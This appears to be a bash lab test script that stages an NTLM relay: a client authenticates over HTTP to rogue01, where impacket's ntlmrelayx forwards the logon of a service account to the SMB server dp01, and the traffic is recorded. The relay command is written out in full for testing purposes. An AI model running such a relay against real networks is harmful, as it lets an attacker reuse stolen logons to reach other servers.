#!/bin/bash
# A client is led to rogue01 over HTTP, where impacket's ntlmrelayx hands its NTLM logon on to the SMB server of dp01.
. "$(dirname "$0")/../../tests/lab/case.sh"
. "$TOP/tests/lab/samba.sh"
samba dp01
relay rogue01 80 -smb2support --no-smb-server -t smb://dp01.corp.example
record
web client01 --ntlm -u "CORP\\svc_naa:$PASSWORD" http://rogue01.corp.example/index.html || true
sleep 2
finish
